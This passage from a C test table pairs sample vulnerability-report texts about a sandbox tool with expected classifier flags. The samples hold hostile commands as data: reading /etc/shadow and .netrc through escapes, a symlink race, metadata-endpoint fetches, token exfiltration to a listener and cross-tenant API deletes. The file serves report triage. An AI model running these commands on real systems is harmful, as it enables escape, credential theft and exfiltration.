	 * is the reproduction's step; "echo" as a word is none (rounds 224,
	 * 231) */
	{ PROSE "job A does echo s3cr3t-from-A > /dev/shm/tok and exits, job B reads it later.\n", 1, 1, -1 },
	{ PROSE "as root in the guest i did printf 'x\\n  ProxyCommand sh -c \"id\"\\n' > /etc/hostname then ran it.\n",
	  1, 1, -1 },
	{ PROSE "the logs echo the value back to whoever asks, which is the whole problem here.\n", 1, 0, -1 },
	/* (#3) the same, wrapped at 76 columns by a mail client: the command
	 * told inside a sentence goes on on the next line, and the capture
	 * tool's lead-in starts on the line above (the wrap76 variants) */
	{ PROSE "as root in the guest (which is the default) i did printf 'x\\n  ProxyCommand sh -c\n"
	  "\"id\"\\n' > /etc/hostname then on the mac it runs.\n", 1, 1, -1 },
	{ PROSE "on the cafe wifi sudo tcpdump -A -i en0 port 80 while running a plain\n"
	  "Sandbox.create():\nPOST /v1/sandboxes HTTP/1.1\nHost: api.example\n", -1, 1, 1 },
	/* (#3) the npm debug module's lines are a log (round 227) */
	{ PROSE "the sdk dumps the create payload:\n```\n  microsandbox:http POST https://api.example/v1/sandboxes +0ms\n"
	  "  microsandbox:http body {\"secrets\":{\"K\":{\"value\":\"sk_test_DUMMY\"}}} +1ms\n```\n", 1, -1, 1 },
	/* (#3) a phone's smart punctuation made an option's "--" a dash
	 * (round 224) */
	{ PROSE "i did msb run \u2014rm python:3.12 sh -c \u201cln -s /Users/t/x /tmp/keep\u201d and when it exited the "
	  "cleanup emptied the real folder on my mac.\n", 1, 1, -1 },
	/* issue #3: an msb command written bare in the middle of a sentence,
	 * with a path given to an option or a shell line's marks; a flag
	 * named in passing is none */
	{ PROSE "I started the sandbox with msb run --volume ~/share:/data:ro alpine and then listed ../.ssh through the share.\n", 1, 1, 0 },
	{ PROSE "To see it, just run msb run --network none alpine -- wget -qO- http://192.0.2.7/ and watch the page come back.\n", 1, 1, 0 },
	{ PROSE "Starting it as msb run --network none alpine still resolves names over DNS, which defeats the point.\n", 1, 0, 0 },
	/* issue #3: under an output heading a machine-made line is output,
	 * whatever its format; the heading may open with its output word and
	 * go on at length; a printed object opens with a bracket alone under
	 * a lead-in.  A writer's words under such a heading are none */
	{ PROSE "    await sb.run(\"upload\")\n\nResponse:\n\nok=false err=quota_exceeded used=512MiB limit=256MiB\n", 1, -1, 1 },
	{ PROSE "    const r = await sb.exec(\"id\");\n    console.log(r);\n\nResult, on the second laptop we tried (the first one stayed clean):\n\n"
	  "```\n{\n  exitCode: 0,\n  stdout: 'uid=0(root) gid=0(root)'\n}\n```\n", 1, 1, 1 },
	{ PROSE "    const r = await sb.exec(\"id\");\n    console.log(r);\n\nWhat my terminal showed afterwards:\n\n"
	  "```\n{\n  exitCode: 0,\n  stdout: 'uid=0(root) gid=0(root)'\n}\n```\n", 1, 1, 1 },
	{ PROSE "WARNING:app.sync:retrying upload id=42 with key=sk-DUMMY\nWARNING:app.sync:gave up after 5 tries\n", 1, -1, 1 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nResult:\n\nroot on the host\n", 1, 1, 0 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nResponse from the vendor, in short:\n\nWe will look at it next week.\n", 1, 1, 0 },
	/* issue #3: a look at the environment or the configuration reproduces
	 * nothing: any program asked for its version, the product's version
	 * line in a list, a service's unit and the processes; a decisive step
	 * kept back leaves the rest without a reproduction */
	{ PROSE "Environment:\n\n    $ qemu-system-x86_64 --version\n    QEMU emulator version 8.2.2\n", 1, 0, 0 },
	{ PROSE "Versions we compared on the same host:\n\n    firecracker 1.9.1\n    microsandbox 0.8.7\n", 1, 0, 0 },
	{ PROSE "    $ systemctl status msbd\n    msbd.service - microsandbox daemon\n    $ ps -eo user,cmd | grep [m]sb\n"
	  "    root  /usr/bin/msbd\n", 1, 0, -1 },
	/* (#3, 2247) a service's sandboxing and privileges audited
	 * (systemd-analyze security, capsh --print, getpcaps, sestatus) are
	 * a hardening review's look, logs, no PoC; capsh running a program
	 * with capabilities dropped, or a command of the product's after the
	 * audit, still reproduces */
	{ PROSE "Our agent's unit as it ships:\n\n    $ systemd-analyze security agentd.service | tail -2\n"
	  "    \u2717 PrivateDevices=      Service potentially has access to hardware devices  0.2\n"
	  "    \u2192 Overall exposure level for agentd.service: 9.2 UNSAFE\n", 1, 0, 1 },
	{ PROSE "    # capsh --print | grep Current\n    Current: =ep\n    # getpcaps $(pidof msbd)\n    1337: =ep\n"
	  "    # sestatus\n    SELinux status:                 disabled\n", 1, 0, -1 },
	{ PROSE "    $ sudo capsh --drop=cap_sys_admin -- -c 'msb run --name x alpine -- mount -t tmpfs none /mnt'\n", 1, 1, -1 },
	{ PROSE "    $ systemd-analyze security msbd.service | tail -1\n    Overall exposure level: 9.6 UNSAFE\n"
	  "    $ msb exec t -- sh -c 'cat /proc/1/root/etc/shadow'\n    root:*:19700:0:99999:7:::\n", 1, 1, -1 },
	/* (#3, 2213) the same look in a loop or under watch(1), catching a
	 * state while it lasts, is still a look; a loop that changes
	 * something (the racer itself) reproduces */
	{ PROSE "I kept an eye on the lock file while the daemon restarted:\n\n"
	  "    $ while true; do ls -l --time-style=+%s /run/agent/agent.lock 2>/dev/null; done | sort -u\n"
	  "    -rw-rw-rw- 1 root root 0 1900000000 /run/agent/agent.lock\n", 1, 0, 1 },
	{ PROSE "    $ watch -n 0.5 'stat -c %a /var/lib/msb/images'\n    777\n", 1, 0, -1 },
	{ PROSE "    $ while :; do ln -sf /etc/shadow /tmp/msb-upload/x; done &\n    $ msb cp t:/upload/x ./x\n", 1, 1, -1 },
	{ PROSE "I would rather not send the exact trigger sequence over plain mail; ask and I will share it.\n\n"
	  "    $ msb run --name t alpine -- sh\n", 1, 0, -1 },
	/* issue #3: commands that only watch or look at the host (a capture,
	 * sockets, the journal, a file's mode, the routes, a program's help)
	 * show the evidence, not its cause: a log, no PoC, also when the
	 * script that caused it is only announced as attached */
	{ PROSE "While the guest job ran I watched the uplink from the host:\n\n"
	  "    $ sudo tshark -i wlp2s0 -f 'udp port 53'\n    1 0.000000 192.0.2.10 -> 198.51.100.53 DNS 84 Standard query A aGVsbG8.x.example\n"
	  "    2 0.010233 192.0.2.10 -> 198.51.100.53 DNS 84 Standard query A d29ybGQ.x.example\n\n"
	  "The exfil helper (leak.py) is attached to this mail.\n", 1, 0, 1 },
	{ PROSE "What the host looked like afterwards:\n\n    $ sudo ss -tunp | grep msb\n"
	  "    udp  ESTAB 0 0 192.0.2.10:41000 198.51.100.53:53 users:((\"msb-net\",pid=4242,fd=9))\n"
	  "    $ journalctl -u msbd --since today | tail -n 3\n    Nov 03 10:00:01 h msbd[4242]: egress allowed proto=udp dst=198.51.100.53\n", 1, 0, 1 },
	{ PROSE "Our review of the install, for the record:\n\n    $ stat -c '%a %U' /var/lib/msb/images\n    777 root\n"
	  "    $ getfacl /etc/msb\n    user::rwx\n    $ ip route show\n    default via 192.0.2.1 dev eth0\n"
	  "    $ msb snapshot --help | grep -i encrypt\n", 1, 0, -1 },
	{ PROSE "    $ sudo tail -f /var/log/msb/msbd.log\n    10:00:01 WARN egress allowed dst=198.51.100.53\n", 1, 0, 1 },
	/* ... but a reproduction beside them still counts: the msb command
	 * before the capture, a script attached in fact (below), a cat inside
	 * the guest after the commands that broke out */
	{ PROSE "    $ msb run --network none alpine -- ping -c 3 198.51.100.7\n    $ sudo tcpdump -ni eth0 icmp\n"
	  "    10:00:01.1 IP 192.0.2.10 > 198.51.100.7: ICMP echo request, id 9, seq 1, length 64\n", 1, 1, 1 },
	{ PROSE "    / # ln -s /proc/1/root/etc /mnt/shared/x\n    / # cat /mnt/shared/x/hostname\n    buildhost-07\n", 1, 1, -1 },
	{ PROSE "    $ ip link add veth9 type veth peer name veth10\n", 1, 1, 0 },
	{ PROSE "    $ ls -l /tmp/out && rm -rf /tmp/out\n", 1, 1, -1 },
	/* issue #3: a list heading is its own last sentence: "steps" in an
	 * earlier sentence of the line does not make suggestions steps */
	{ PROSE "We run msb for untrusted CI steps on shared runners, and we went through its defaults last week. "
	  "Here is what we would change:\n\n1. Turn the network off by default.\n2. Run agentd as a normal user.\n"
	  "3. Sign the release tarballs.\n", 1, 0, 0 },
	{ PROSE "We saw it on two laptops and a CI runner, each time from a clean install. Steps on any of them:\n\n"
	  "1. Create a sandbox with a writable mount.\n2. Rename the parent directory in the guest.\n"
	  "3. Write a file through the old path.\n", 1, 1, 0 },
	/* issue #3: a response the writer marks with an arrow ("-> {...}",
	 * "=> 403 ...", "\u2192 [...]") right under the command that got it,
	 * in a list step or not, is its output; an arrow before the writer's
	 * words, one under a prose step or under an environment query is not */
	{ PROSE "Steps:\n1. Ask for a token:\n   curl -s -X POST https://api.example/v1/keys \\\n"
	  "        -d '{\"scope\":\"read\"}'\n   -> {\"key\":\"k_ro_1\",\"scope\":\"read\"}\n"
	  "2. Use it to write:\n   curl -s -X PUT https://api.example/v1/files/a -H 'X-Key: k_ro_1'\n", 1, 1, 1 },
	{ PROSE "1. Try the admin route:\n   curl -s https://api.example/v1/admin/users -H 'X-Key: k_ro_1'\n"
	  "   => 200 [{\"id\":1,\"name\":\"root\"}]\n", 1, 1, 1 },
	{ PROSE "    curl -s http://127.0.0.1:8080/v1/sandboxes -H 'Authorization: Bearer k_ro_1'\n"
	  "\u2192 403 {\"error\":\"forbidden\"}\n", 1, 1, 1 },
	{ PROSE "1. Ask for a token:\n   curl -s -X POST https://api.example/v1/keys\n"
	  "   -> then reuse it on the write route with the same header.\n", 1, 1, 0 },
	{ PROSE "1. Open the console and create a viewer link.\n"
	  "   -> {\"role\":\"viewer\"} is what the form sends.\n", 1, -1, 0 },
	{ PROSE "1. Check the version:\n   msb --version\n   -> \"0.9.4\"\n", 1, -1, 0 },
	/* a bare status code the writer glosses in brackets is the result
	 * told; the same code alone, or with a reason phrase, is printed */
	{ PROSE "2. From the guest:\n   wget -qS -O /dev/null http://files.example/a.bin\n"
	  "   -> 403 (the filter stops it, good)\n", 1, 1, 0 },
	{ PROSE "Repro:\n1. set a proxy on the host\n2. in the guest: wget -q -S https://files.example/x -O /dev/null\n"
	  "   -> 200 (via the relay, not blocked)\n3. in the guest: wget --no-proxy https://files.example/x\n"
	  "   -> blocked as it should be\n", 1, 1, 0 },
	{ PROSE "2. From the guest:\n   wget -qS -O /dev/null http://files.example/a.bin\n"
	  "   -> 403 Forbidden\n", 1, 1, 1 },
	{ PROSE "2. From the guest:\n   wget -qS -O /dev/null http://files.example/a.bin\n"
	  "   -> 403 (Forbidden)\n", 1, 1, 1 },
	/* issue #3: the line right under a prompted command in a list step,
	 * or under the last line of one continued over lines, indented as the
	 * command is (or at the margin in a text that lost its indentation,
	 * a PDF's), is what it printed when it is machine-made: a JSON
	 * answer, a status code; the writer's words under it, a line back at
	 * the margin under an indented command, or a value under an
	 * environment query are not */
	{ PROSE "2. Delete the other team's volume:\n     $ curl -s -X DELETE -H \"X-Key: $K\" \\\n"
	  "         https://api.example/v2/teams/t_9/volumes/v_3\n     {\"deleted\":true,\"id\":\"v_3\"}\n"
	  "3. Nothing else was touched.\n", 1, 1, 1 },
	{ PROSE "4.2 Replay the request with the viewer token:\n$ curl -s -o /dev/null -w \"%{http_code}\\n\" \\\n"
	  "    -X PATCH https://api.example/v2/projects/p_4 -d '{\"public\":true}'\n200\n"
	  "4.3 The project is now public.\n", 1, 1, 1 },
	{ PROSE "1. Ask for the owner's list:\n   $ curl -s https://api.example/v2/teams/t_9/members\n"
	  "   [{\"user\":\"u_1\",\"role\":\"owner\"}]\n", 1, 1, 1 },
	{ PROSE "2. Delete the other team's volume:\n     $ curl -s -X DELETE -H \"X-Key: $K\" \\\n"
	  "         https://api.example/v2/teams/t_9/volumes/v_3\n     and the volume was gone a minute later.\n", 1, 1, 0 },
	{ PROSE "Run this:\n\n    $ curl -s https://api.example/v2/teams/t_9/members\nThanks,\n", 1, 1, 0 },
	{ PROSE "1. Check the client:\n   $ msb --version\n   0.9.4\n", 1, -1, 0 },
	/* issue #3: sudo and its program on their own line is a command, not
	 * what the command above printed */
	{ PROSE "  msb run --name x -v /:/host alpine -- touch /host/tmp/owned\n  sudo -n true\n", 1, 1, 0 },	/* issue #3: under a lead-in, a value with the command that gives it
	 * is the environment the writer typed, in any language; pasted output
	 * of the same command followed by log lines is logs */
	{ PROSE "  msb run --rm -v /srv/a:/a alpine -- touch /a/x\n\nThe file is there, owned by root.\n\n"
	  "On the build host:\n  0.9.5 (per msb --version), from the apt repo\n  Debian 12, kernel 6.1.0-28-amd64\n", 1, 1, 0 },
	{ PROSE "  msb run --rm -v /srv/a:/a alpine -- touch /a/x\n\nThe file is there, owned by root.\n\n"
	  "Testumgebung:\n  Debian 12, Kernel 6.1.0-28-amd64\n  msb 0.9.5\n", 1, 1, 0 },
	{ PROSE "  $ msb --version\n  msb 0.9.5\n  $ msb run --rm -v /srv/a:/a alpine -- touch /a/x\n"
	  "  2026-12-01T09:14:02Z WARN msbd: volume /srv/a mounted rw\n  2026-12-01T09:14:03Z INFO msbd: sandbox started\n",
	  1, 1, 1 },
	/* issue #3: a raw HTTP request as a listener printed it, under a line
	 * saying what arrived, in any language, is output; the same request
	 * typed into nc (a here-document) or to be pasted is the command */
	{ PROSE "  msb run --rm alpine -- wget -qO- http://10.9.8.7:7000/\n\nThe listener on my VPS caught this:\n\n"
	  "PUT /hook HTTP/1.1\nHost: 10.9.8.7:7000\nX-Upstream-Token: msbk_live_x1\n", 1, 1, 1 },
	{ PROSE "  msb run --rm alpine -- wget -qO- http://10.9.8.7:7000/\n\n\u670d\u52a1\u5668\u6536\u5230\u7684\u8bf7\u6c42\uff1a\n\n"
	  "GET /collect HTTP/1.1\nHost: 10.9.8.7:7000\n", 1, 1, 1 },
	{ PROSE "Send it by hand:\n\n  nc 10.9.8.7 7000 <<EOF\n  GET /v1/sandboxes HTTP/1.1\n  Host: 10.9.8.7\n  EOF\n", 1, -1, 0 },
	{ PROSE "Paste this into Burp Repeater:\n\nPOST /v1/images/import HTTP/1.1\nHost: api.example\n", 1, -1, 0 },
	/* issue #3: an intercepting proxy shows a request as the method and
	 * the whole URL, no version: under a line saying what it caught, that
	 * is output too; the same line under an instruction is not */
	{ PROSE "  msb run --rm alpine -- wget -qO- https://hooks.example/x\n\nIntercepted with mitmweb:\n\n"
	  "PUT https://hooks.example/x\nx-upstream-token: msbk_live_t2\n", 1, 1, 1 },
	{ PROSE "Send this from any shell you like:\n\nDELETE https://api.example/v1/orgs/7/members/3\n", 1, -1, 0 },
	/* issue #3: what a step that is a command printed, indented under it,
	 * is output; a step in words with a command under it is not */
	{ PROSE "Steps:\n1. curl -s https://files.example/msb/install.sh | grep -c sha256sum\n   0\n"
	  "2. dig +short dl.superrad.example\n   198.51.100.23\n   198.51.100.24\n", 1, 1, 1 },
	{ PROSE "Steps:\n1. Make a link inside the sandbox:\n   ln -s /etc/shadow /tmp/link\n2. Copy it out with msb cp.\n", 1, -1, 0 },
	/* issue #3: a heading underlined with dashes or equals signs (setext,
	 * as Markdown and plain-text writers set one) reads as one ending in
	 * a colon: what sits under "Results (second run)" / "-----" is output,
	 * indented or not; the underline itself is no output, and a block
	 * under an underlined heading of another kind stays no log */
	{ PROSE "Results (second run)\n--------------------\n\n  {\"sandbox\":\"t9\",\"state\":\"running\"}\n", 1, -1, 1 },
	{ PROSE "Server response\n===============\n{\"granted\":true,\"role\":\"owner\"}\n", 1, -1, 1 },
	{ PROSE "Results (second run)\n\n  {\"sandbox\":\"t9\",\"state\":\"running\"}\n", 1, -1, 0 },
	{ PROSE "Output\n------\n\nI did not keep it, sorry.\n", 1, -1, 0 },
	{ PROSE "Background\n----------\n\n  {\"sandbox\":\"t9\",\"state\":\"running\"}\n", 1, -1, 0 },
	/* issue #3: a numbered list indented by two or four spaces or a tab
	 * is the list it is, as flush left: its steps in words with commands
	 * indented under them are no log, and a report whose only sentences
	 * are its steps still describes something */
	{ "Hello,\n\nHow to see it:\n  1. Boot a guest:\n       msb run --rm --name q alpine\n"
	  "  2. Inside it, fetch the host's instance metadata:\n       wget -qO- http://169.254.169.254/latest/\n"
	  "  3. The host's cloud role answers the guest.\n", -1, 1, 0 },
	{ "Hello,\n\nHow to see it:\n\t1. Boot a guest:\n\t     msb run --rm --name q alpine\n"
	  "\t2. Inside it, fetch the host's instance metadata:\n\t     wget -qO- http://169.254.169.254/latest/\n"
	  "\t3. The host's cloud role answers the guest.\n", -1, 1, 0 },
	{ "Hi,\n\nSteps\n    1. msb run --rm debian\n    2. journalctl inside the guest lists the host's units\n"
	  "    3. Problem: the host journal is not isolated, so the guest learns the host's secrets\n", 1, 1, 0 },
	{ "Hi,\n\nSteps\n1. msb run --rm debian\n2. journalctl inside the guest lists the host's units\n"
	  "3. Problem: the host journal is not isolated, so the guest learns the host's secrets\n", 1, 1, 0 },
	/* "Log in to ...:" is the verb, no heading of a log: the link under
	 * it is no output; "The log in /var/log/msb:" is the noun */
	{ "Hello,\n\nTo see it:\n  1. Log in to the web portal and open the sandbox page:\n"
	  "       https://console.example/s/4f2a\n  2. The page lists another tenant's sandboxes.\n", -1, -1, 0 },
	{ "Hello,\n\nTo see it:\n1. Log into the dashboard as a viewer:\n     https://dash.example/login\n"
	  "2. The page lists another tenant's sandboxes.\n", -1, -1, 0 },
	{ PROSE "The log in /var/log/msb on the host:\n\n  2026-11-30T10:00:01Z WARN agent: token=abc leaked\n", 1, -1, 1 },
	/* ... while an indented block stays what it is: a command's output
	 * with list markers in it, a step command's output under it */
	{ PROSE "Listing:\n\n    $ msb ls\n    - sbx-north running\n    - sbx-south running\n", 1, 1, 1 },
	{ PROSE "Steps:\n  1. curl -s https://dl.example/msb/setup.sh | grep -c sha512sum\n       0\n"
	  "  2. dig +short get.superrad.example\n       203.0.113.7\n       203.0.113.8\n", 1, 1, 1 },
	/* issue #3: a list item's sentence wrapped onto an indented line
	 * that starts with a command word ("   microsandbox versions).") is
	 * the item's prose, not a command; a command under an item that ends
	 * in a colon or does not end a sentence still is one, as is a
	 * command ending in " ." */
	{ PROSE "Our requests:\n1. Confirm receipt and name a contact.\n2. Send a statement for the advisory (fixed\n"
	  "   microsandbox releases).\n", -1, 0, -1 },
	{ PROSE "What we need:\n1. A contact for the case.\n2. Tell us which affected\n   msb versions ship the fix.\n", -1, 0, -1 },
	{ PROSE "Steps:\n1. Start a sandbox, then run\n   msb exec web -- cat /etc/shadow\n2. Read the output.\n", -1, 1, -1 },
	{ PROSE "To see it:\n- build the image from the repo root with\n  docker build -t probe .\n", -1, 1, -1 },
	/* a PoC only offered is none; offered beside real steps or commands,
	 * those still count */
	{ PROSE "The researcher's proof of concept is available to you on request through our portal.\n", -1, 0, -1 },
	{ PROSE "We can provide a working exploit upon request.\n", -1, 0, -1 },
	{ PROSE "Steps to reproduce:\n1. Create a sandbox with a volume\n2. Run the script in the guest\n"
	  "3. Check the host file\nA fuller exploit can be shared on request.\n", -1, 1, -1 },
	{ PROSE "Repro:\n\n    msb run --volume /tmp/x:/x alpine -- ln -s / /x/root\n\n"
	  "The full exploit is available on request.\n", -1, 1, -1 },
	/* (1223) the host's command that opens a shell in the guest, then
	 * the guest's prompt, told in a story with no heading: a
	 * reproduction; a guest prompt that only looks around is none */
	{ PROSE "From the second account I typed this:\n\n"
	  "    MSB_HOST=/run/other/msbd.sock msb run --volume /home/ana:/x -it alpine:3.20 sh\n"
	  "    / # cat /x/.netrc\n    machine example.net login ana\n\nand there it was.\n", -1, 1, -1 },
	{ PROSE "This is what the guest shows:\n\n    Welcome to the sandbox\n    / # ls /x\n    notes.txt\n", -1, 0, -1 },
	/* round 105 (1231): an output heading in Hungarian, Italian, Czech,
	 * Romanian, Korean, Greek; a heading in another sense stays none */
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nKimenete a gépemen:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nRisultato:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nVýstup:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	/* (2326) a run's log in Arabic construct state ("from the run's
	 * log"), as well as with the article, and a Hebrew log; the same
	 * word in a sentence that heads nothing is none */
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nمن سجل التشغيل (run 9912034711):\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nיומן ההרצה:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "لم أجد أي شيء في سجل النظام بعد إعادة التشغيل.\n", 1, 0, 0 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nIeșire:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\n\ucd9c\ub825:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nΈξοδος:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	/* (1847) a job's log in Serbian, Croatian or Bosnian ("Iz loga:",
	 * "Log posla:", Cyrillic "Из лога:") over xtrace lines; the bare
	 * "log" is not read (English's "Log in to ..." starts so).  A GitHub
	 * Actions job log's markers are log lines */
	{ PROSE "Iz loga:\n+ echo c2VjcmV0LXZhbHVl\n+ git push origin HEAD:main\n", 1, -1, 1 },
	{ PROSE "Log posla, korak release:\n+ export TAP=c2VjcmV0LXZhbHVl\n+ ./scripts/tap.sh --push\n", 1, -1, 1 },
	{ PROSE "Из лога:\n+ echo c2VjcmV0LXZhbHVl\n+ git push origin HEAD:main\n", 1, -1, 1 },
	{ PROSE "Logujte se na konzolu ovako:\nkorisnik admin, lozinka iz trezora, pa otvorite podešavanja i nalog.\n", 1, -1, 0 },
	{ PROSE "##[group]Publish the formula\n##[error]Process completed with exit code 1.\n", 1, -1, 1 },
	{ PROSE "The runner folds it under a ##[group] marker, so nobody opens it.\n", 1, -1, 0 },
	{ PROSE "Eredményes volt a teszt, a javaslatunk:\n\n    Tiltsátok le az összes portot alapból.\n", 1, -1, 0 },
	/* (1231) what curl and nc -v print of their connections is output,
	 * under any lead-in; a sentence that names curl's error is not */
	{ PROSE "    msb run --rm --net-allow pypi.org img -- sh /probe.sh\n\nNa terminalu:\n\n"
	  "    curl: (7) Failed to connect to 192.0.2.9 port 80 after 3 ms\n"
	  "    Connection to 192.0.2.9 5432 port [tcp/postgresql] succeeded!\n", 1, 1, 1 },
	{ PROSE "nc: connect to 192.0.2.9 port 22 (tcp) failed: Connection refused\n"
	  "Connection to 192.0.2.9 8443 port [tcp/*] succeeded!\n", 1, -1, 1 },
	{ PROSE "The only message was the usual curl: (56) one, so nothing printed beyond that.\n", 1, -1, 0 },
	/* round 105 (1230): a heading opened by a mark ("\u25a0", "\u3010",
	 * Markdown's "#") reads as one ending in a colon; a capture tool named
	 * in it announces what the tool caught.  A marked heading of another
	 * kind announces nothing */
	{ PROSE "    $ node probe.mjs\n\n\u25a0 mitmweb \u3067\u6355\u307e\u3048\u305f\u901a\u4fe1\n\n"
	  "PUT https://hooks.example/v2/upload\n    x-api-key: k_live_DUMMY\n", 1, 1, 1 },
	{ PROSE "    $ node probe.mjs\n\n\u3010\u51fa\u529b\u3011\n\n    token=k_live_DUMMY sent=true\n", 1, 1, 1 },
	{ PROSE "    $ node probe.mjs\n\n## Ausgabe\n\n    token=k_live_DUMMY sent=true\n", 1, 1, 1 },
	{ PROSE "Burp, the second call:\n\n    PATCH https://api.example/v1/me\n", 1, -1, 1 },
	{ PROSE "    $ node probe.mjs\n\n\u25a0 \u74b0\u5883\n\n    macOS 15.3 / Node 22.11.0\n", 1, 1, 0 },
	{ PROSE "\u25a0 \u63d0\u6848\n\nPUT https://hooks.example/v2/upload\n", 1, -1, 0 },
	{ PROSE "We installed mitmproxy on the laptop and set the proxy like this:\n\n    HTTPS_PROXY=http://127.0.0.1:8080\n", 1, -1, 0 },
	/* round 105 (1235): a command continued over lines in a block, a
	 * blank line, then what it printed in a block of its own: output;
	 * the same block of prose, or of code, is not */
	{ PROSE "1. Read the member list:\n\n   curl -s -H \"X-Key: k_dev_1\" \\\n        https://api.example/v2/teams/t9/members\n\n"
	  "   [{\"login\":\"ana\",\"role\":\"owner\"}]\n", 1, 1, 1 },
	{ PROSE "    msb cloud ls --org acme\n\n    sbx-17  running  team-b\n", 1, 1, 1 },
	{ PROSE "1. Read the member list:\n\n   curl -s -H \"X-Key: k_dev_1\" \\\n        https://api.example/v2/teams/t9/members\n\n"
	  "   The list comes back with every member of the other team in it.\n", 1, 1, 0 },
	{ PROSE "    msb run --name w alpine -- sh\n\n    import os\n    os.system(\"id\")\n", 1, 1, 0 },
	{ PROSE "    cat > /tmp/x.json <<'EOF'\n\n    {\"role\":\"owner\"}\n", 1, -1, 0 },
	{ PROSE "On the first laptop:\n\n    msb cloud ls --org acme\n\n    second laptop:\n    msb cloud rm sbx-17 --org acme\n", 1, 1, 0 },
	/* round 106 (1243, 1248): steps told in sentences from a phone: an
	 * msb command after a colon that ends the sentence with its option
	 * and value, one in mid-sentence with two options given values, one
	 * with the environment the writer set for it.  A story with no
	 * command, a PoC promised, a flag or a command named in passing, a
	 * command the docs give, a variable alone are none */
	{ PROSE "This morning i started one from the nightly: msb run --from-snapshot nightly-3 ubuntu.\nInside it her .netrc was there.\n", 1, 1, 0 },
	{ PROSE "Then i restored it on the other host with msb snapshot restore nightly --name copy7 --volume-from prod and the files of prod were inside.\n", 1, 1, 0 },
	{ PROSE "If i export MSB_API_KEY=<key of team A> and MSB_ORG=<team B> then msb ls lists every sandbox of team B.\n", 1, 1, 0 },
	{ PROSE "Even msb ps run with MSB_ORG=other-team shows the other team's sandboxes, also stopped ones.\n", 1, 1, 0 },
	{ PROSE "Yesterday my colleague saw my files in her sandbox after a restore, and she never had access to my snapshot.\n", 1, 0, 0 },
	{ PROSE "I can send a PoC later from my laptop, now i am on the phone.\n", 1, 0, 0 },
	{ PROSE "The restore worked with msb snapshot restore and then the files of another sandbox were inside.\n", 1, 0, 0 },
	{ PROSE "My finding in short: msb run --network none still resolves names over DNS.\n", 1, 0, 0 },
	{ PROSE "The workaround we use: msb run --network none alpine.\n", 1, 0, 0 },
	{ PROSE "Setting MSB_TELEMETRY=0 stops the upload, so we keep it off now.\n", 1, 0, 0 },
	{ PROSE "The docs say that MSB_ORG=<org> makes msb ls show the sandboxes of that org.\n", 1, 0, 0 },
	{ PROSE "With MSB_LOG=trace msb exec prints every argument it forwards to the guest.\n", 1, 0, 0 },
	{ PROSE "Since MSB_ORG=acme-prod is set in our profile, this is what msb prints at the start of each job.\n", 1, 0, 0 },
	/* (1252) an msb command told unquoted in a sentence of what someone
	 * did, with an option: a reproduction; a setup named in the present,
	 * or a command with only a flag, is none */
	{ PROSE "I published a snapshot with msb snapshot push web-1 --org acme --private, and a colleague\n"
	  "at another firm then ran msb snapshot pull acme/web-1 --as copy and got it.\n", -1, 1, -1 },
	{ PROSE "We use msb run --net-allow pypi.org ci-image for all our CI jobs.\n", -1, 0, -1 },
	/* (1813) curl or wget told unquoted in a sentence with the address it
	 * fetched, in English and the other languages: a reproduction; the
	 * program without its address, or one anyone could run, is none */
	{ PROSE "from the guest we then ran wget -qO- http://10.0.2.2:5432/ and the database banner came back.\n", -1, 1, -1 },
	{ PROSE "then i tried curl -s -H 'Host: admin' http://host.internal:9000/metrics and saw the counters.\n", -1, 1, -1 },
	{ PROSE "Dentro da sandbox rodei curl http://192.0.2.44:8888/api e recebi a lista.\n", -1, 1, -1 },
	{ PROSE "Dans le bac \xc3\xa0 sable j'ai lanc\xc3\xa9 curl -k https://10.1.1.1:6443/version et il a r\xc3\xa9pondu.\n", -1, 1, -1 },
	{ PROSE "I ran curl against the gateway address and it answered, which it should not.\n", -1, 0, -1 },
	{ PROSE "Anyone in the sandbox can run curl http://10.0.2.2:11434/ to reach the host.\n", -1, 0, -1 },
	{ PROSE "I ran curl --version inside the guest to see what it was built with.\n", -1, 0, -1 },
	/* (1788) the writer's own check of a CI workflow from a fork, with
	 * what the pull request's code did: a reproduction; one an attacker
	 * could make, or a run that did nothing, is none */
	{ PROSE "We verified this with a throwaway PR from our fork whose build script echoed the length of the token.\n", -1, 1, -1 },
	{ PROSE "I tested it safely from my own fork: pull request #311 added a step.sh that only listed the secret names.\n", -1, 1, -1 },
	{ PROSE "Someone could test it from a fork with a PR that prints the token.\n", -1, 0, -1 },
	{ PROSE "I checked it from a fork, but the job never printed anything and was skipped.\n", -1, 0, -1 },
	{ PROSE "We tested the fix in a PR that pins the checkout to the base commit.\n", -1, 0, -1 },
	/* (1302) what arrived at a listener, said in Turkish with a
	 * participle ("gelen", "yakalanan", "ulaşan"): the request under it
	 * is output; a request to be sent is not, nor a word that only
	 * starts like one ("Geleneksel") */
	{ PROSE "  msb run --rm alpine -- wget -qO- http://10.9.8.7:7000/\n\nSunucuma gelen istek (token sahte):\n\n"
	  "GET /topla HTTP/1.1\nHost: 10.9.8.7:7000\nX-Token: msbk_test_1\n", 1, 1, 1 },
	{ PROSE "  msb run --rm alpine -- wget -qO- http://10.9.8.7:7000/\n\nDinleyicinin yakaladığı istek:\n\n"
